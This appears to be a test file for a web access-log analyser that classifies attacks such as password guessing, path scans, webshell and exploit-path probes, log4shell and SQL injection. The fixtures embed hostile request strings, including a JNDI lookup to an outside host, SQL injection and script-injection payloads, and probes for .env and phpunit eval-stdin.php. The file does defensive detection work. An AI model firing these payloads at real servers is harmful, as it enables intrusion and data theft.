@@ -1,0 +1,205 @@
+/** The access log analyser: who attacked, how, whether it worked, and honest silence otherwise. */
+import { readFileSync } from 'node:fs';
+import { expect, test } from 'vitest';
+import { z } from 'zod';
+import { analyzeAccessLog, parseLogLine } from '../../../analysis/web/index.ts';
+import { dataJson, dataPath, describeWithData } from '../../support/data.ts';
+
+const line = (source: string, request: string, status = 200, size = 500, agent = 'Mozilla/5.0', second = 0) =>
+  `${source} - - [24/Nov/2026:00:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000] "${request}" ${status} ${size} "-" "${agent}"`;
+async function* chunked(bytes: Uint8Array, size: number) {
+  for (let at = 0; at < bytes.length; at += size) yield await Promise.resolve(bytes.subarray(at, at + size));
+}
+const analyze = (lines: readonly string[], chunk = 65_536) =>
+  analyzeAccessLog(chunked(Buffer.from(lines.join('\n')), chunk), { name: 'access.log' });
+async function resultOf(lines: readonly string[], chunk?: number) {
+  const reading = await analyze(lines, chunk);
+  if (!reading.ok) throw new Error(reading.reason);
+  return reading.result;
+}
+const classesOf = ({ attackers }: Awaited<ReturnType<typeof resultOf>>) =>
+  Object.fromEntries(attackers.map(({ source, classes }) => [source, classes.map((each) => each.class)]));
+
+test('a clean log is benign, with the receipt that says what was read and what the control found', async () => {
+  const result = await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), '', line('192.0.2.2', 'GET /a?id=7 HTTP/1.1')]);
+  expect(result).toMatchObject({
+    verdict: 'benign',
+    severity: 'info',
+    confidence: 0,
+    attackers: [],
+    iocs: [],
+    checked: [{ corpus: { items: 2, items_read: 2 }, control: expect.stringContaining('sqli') as string }],
+  });
+  expect(result.not_checked.length).toBeGreaterThan(0);
+});
+
+test('what holds no line of a log is refused with a reason, and an unread line makes silence inconclusive', async () => {
+  expect(await analyze([])).toMatchObject({ ok: false });
+  expect(await analyze(['hello', 'world'])).toMatchObject({ ok: false });
+  expect(await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), 'noise'])).toMatchObject({ verdict: 'inconclusive' });
+});
+
+test('every usual format is read to the same facts', () => {
+  const facts = { source: '192.0.2.1', method: 'GET', target: '/a', status: 404, size: 7 };
+  const date = '[24/Nov/2026:00:00:00 +0100]';
+  for (const text of [
+    `192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7`,
+    `192.0.2.1 - bob ${date} "GET /a HTTP/1.1" 404 7 "-" "x \\" y"`,
+    `www.example.com:443 192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7 "-" "x" "-"`,
+    `{"remote_addr":"192.0.2.1","request":"GET /a HTTP/1.1","status":404,"body_bytes_sent":"7"}`,
+    `{"request":{"remote_ip":"192.0.2.1","method":"GET","uri":"/a"},"status":404,"size":7}`,
+    `{"log":"192.0.2.1 - - ${date} \\"GET /a HTTP/1.1\\" 404 7\\n"}`,
+  ]) {
+    expect(parseLogLine(text), text).toMatchObject(facts);
+  }
+  expect(parseLogLine(`192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7`)?.time).toBe(Date.UTC(2026, 10, 23, 23) / 1000);
+  expect(parseLogLine('[::ffff:192.0.2.1]:99 x')).toBeUndefined();
+});
+
+test('guessing passwords is told from a visitor who errs twice, and a success after it is critical', async () => {
+  const guesses = Array.from({ length: 9 }, (_, at) => line('192.0.2.9', 'POST /login HTTP/1.1', 401, 9, 'x', at));
+  const errs = [1, 2].map((at) => line('192.0.2.1', 'POST /login HTTP/1.1', 401, 9, 'x', at));
+  const failed = await resultOf([...guesses, ...errs]);
+  expect(classesOf(failed)).toEqual({ '192.0.2.9': ['brute-force'] });
+  expect(failed).toMatchObject({ verdict: 'suspicious', iocs: [{ type: 'ip', value: '192.0.2.9' }] });
+  const through = await resultOf([...guesses, line('192.0.2.9', 'POST /login HTTP/1.1', 302, 0, 'x', 10)]);
+  expect(through).toMatchObject({ verdict: 'malicious', severity: 'critical' });
+  expect(through.mitre_techniques).toEqual(['T1078', 'T1110.001']);
+});
+
+test('a slow guesser is found, and the same failures over a day are not guessing', async () => {
+  const failures = (step: number) =>
+    Array.from(
+      { length: 26 },
+      (_, at) =>
+        `192.0.2.9 - - [24/Nov/2026:${String(Math.floor((at * step) / 60)).padStart(2, '0')}:${String((at * step) % 60).padStart(2, '0')}:00 +0000] "POST /login HTTP/1.1" 401 9`,
+    );
+  expect(classesOf(await resultOf(failures(1)))).toEqual({ '192.0.2.9': ['brute-force'] });
+  expect(classesOf(await resultOf(failures(50)))).toEqual({});
+});
+
+test('each habit of attackers has its class', async () => {
+  const many = (count: number, of: (at: number) => string) => Array.from({ length: count }, (_, at) => of(at));
+  const result = await resultOf([
+    ...many(12, (at) => line('192.0.2.1', `GET /x${at} HTTP/1.1`, 404)),
+    ...many(7, (at) => line('192.0.2.2', `GET /?author=${at} HTTP/1.1`, 301)),
+    ...many(50, (at) => line('192.0.2.3', `GET /page/${at} HTTP/1.1`)),
+    ...many(3, () => line('192.0.2.4', 'GET / HTTP/1.1', 200, 500, 'sqlmap/1.8')),
+    line('192.0.2.5', 'GET /.env HTTP/1.1', 404),
+    line('192.0.2.6', 'GET /wp-content/uploads/c99.php HTTP/1.1', 404),
+    line('192.0.2.7', 'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404),
+    line('192.0.2.8', 'CONNECT mail.example.com:25 HTTP/1.1', 400),
+    line('192.0.2.9', 'GET / HTTP/1.1', 200, 500, '${jndi:ldap://198.51.100.1/a}'),
+    line('192.0.2.10', "GET /item?id=1'%20UNION%20SELECT%20a%20FROM%20b--%20 HTTP/1.1", 403),
+  ]);
+  expect(classesOf(result)).toMatchObject({
+    '192.0.2.1': ['path-scan'],
+    '192.0.2.2': ['user-enumeration'],
+    '192.0.2.3': ['crawl'],
+    '192.0.2.4': ['scanner'],
+    '192.0.2.5': ['sensitive-file'],
+    '192.0.2.6': ['webshell'],
+    '192.0.2.7': ['exploit-path'],
+    '192.0.2.8': ['open-proxy'],
+    '192.0.2.9': expect.arrayContaining(['log4shell']) as string[],
+    '192.0.2.10': ['sqli'],
+  });
+  expect(result.iocs).not.toContainEqual({ type: 'ip', value: '192.0.2.3' });
+  const cited = result.findings.find(({ rule }) => rule?.startsWith('webshell'))?.evidence[0];
+  expect(cited).toMatchObject({ source: 'access.log', locator: 'line 74' });
+});
+
+test('success is read from status and size: an unchanged page is unlikely, a different one is possible', async () => {
+  const injected = (size: number) => [
+    line('192.0.2.1', 'GET /item?id=1 HTTP/1.1', 200, 5_000),
+    line('192.0.2.9', "GET /item?id=1'%20OR%20'1'='1 HTTP/1.1", 200, size),
+  ];
+  expect((await resultOf(injected(5_010))).attackers[0]?.classes[0]).toMatchObject({ success: 'unlikely' });
+  expect((await resultOf(injected(90_000))).attackers[0]?.classes[0]).toMatchObject({ success: 'possible' });
+});
+
+test('the same bytes give the same result however they are cut (ATK-F3: hostile text is neutralised)', async () => {
+  const lines = [
+    line('192.0.2.9', 'GET /?q=<script>alert(1)</script>\u001b[31m\u202e HTTP/1.1'),
+    line('192.0.2.1', 'GET /é HTTP/1.1'),
+  ];
+  const whole = JSON.stringify(await resultOf(lines));
+  expect(JSON.stringify(await resultOf(lines, 1))).toBe(whole);
+  expect(JSON.stringify(await resultOf(lines, 7))).toBe(whole);
+  expect(whole).not.toMatch(/\\u001b|\u202e/);
+});
+
+test('a line without end costs 64 KiB, is counted and keeps the verdict from being clean', async () => {
+  const huge = line('192.0.2.1', `GET /${'a'.repeat(300_000)} HTTP/1.1`);
+  const result = await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), huge]);
+  expect(result.verdict).toBe('inconclusive');
+  expect(JSON.stringify(result.not_checked)).toContain('1 long lines');
+  const sealed = await resultOf([
+    line('192.0.2.1', 'GET / HTTP/1.1'),
+    `${line('192.0.2.2', 'GET /b HTTP/1.1')}${' '.repeat(70_000)}`,
+  ]);
+  expect(sealed).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 2, items_read: 2 } }] });
+});
+
+test('more sources than are watched are bounded and said so', async () => {
+  const lines = Array.from({ length: 20_010 }, (_, at) => line(`2001:db8::${at.toString(16)}`, 'GET / HTTP/1.1'));
+  const result = await resultOf(lines);
+  expect(result.verdict).toBe('inconclusive');
+  expect(JSON.stringify(result.not_checked)).toContain('10 quiet sources');
+});
+
+test('an aborted reading stops', async () => {
+  const aborted = AbortSignal.abort(new Error('stop'));
+  const stream = chunked(Buffer.from(line('192.0.2.1', 'GET / HTTP/1.1')), 10);
+  await expect(analyzeAccessLog(stream, { name: 'x', signal: aborted })).rejects.toThrow('stop');
+});
+
+describeWithData('the web server logs with known answers', () => {
+  const Expected = z.object({
+    cases: z.array(
+      z.object({
+        file: z.string(),
+        log_type: z.string(),
+        alerts: z.array(z.object({ scenario: z.string(), sources: z.array(z.string()) })),
+      }),
+    ),
+  });
+  const CLASSES: readonly [RegExp, readonly string[]][] = [
+    [/-bf$|bruteforce/, ['brute-force', 'exploit-path']],
+    [/user-enum|user_enum/, ['user-enumeration']],
+    [/sensitive/, ['sensitive-file']],
+    [/sqli/, ['sqli']],
+    [/traversal/, ['lfi']],
+    [/open-proxy/, ['open-proxy']],
+    [/bad-user-agent/, ['scanner']],
+    [/invalid-http/, ['malformed-request']],
+    [/dos-swi/, ['dos']],
+    [/./, ['exploit-path']],
+  ];
+
+  test('names the attacking source in at least 95 % and its class in at least 90 %, and no visitor as grave', async () => {
+    const count = { sources: 0, named: 0, classed: 0, visitors: 0 };
+    const { cases } = Expected.parse(dataJson('logs', 'expected.json'));
+    for (const { file, log_type, alerts } of cases) {
+      if (!/^(?:nginx|apache2|caddy|aws-alb|bunkerweb|containerd|litespeed)$/.test(log_type)) continue;
+      const reading = await analyzeAccessLog(chunked(readFileSync(dataPath('logs', file)), 65_536), { name: file });
+      if (!reading.ok) continue;
+      const found = new Map(
+        reading.result.attackers.map(({ source, classes }) => [source, classes.map((each) => each.class)]),
+      );
+      const wanted = alerts.flatMap(({ scenario, sources }) => sources.map((source) => ({ scenario, source })));
+      for (const { scenario, source } of wanted) {
+        const accepted: readonly string[] = CLASSES.find(([pattern]) => pattern.test(scenario))?.[1] ?? [];
+        count.sources += 1;
+        count.named += found.has(source) ? 1 : 0;
+        count.classed += found.get(source)?.some((each) => accepted.includes(each)) ? 1 : 0;
+      }
+      const known = new Set(wanted.map(({ source }) => source));
+      count.visitors += reading.result.iocs.filter(({ value }) => !known.has(value)).length;
+    }
+    expect(count.sources).toBeGreaterThan(45);
+    expect(count.named / count.sources).toBeGreaterThanOrEqual(0.95);
+    expect(count.classed / count.sources).toBeGreaterThanOrEqual(0.9);
+    expect(count.visitors).toBe(0);
+  });
+});
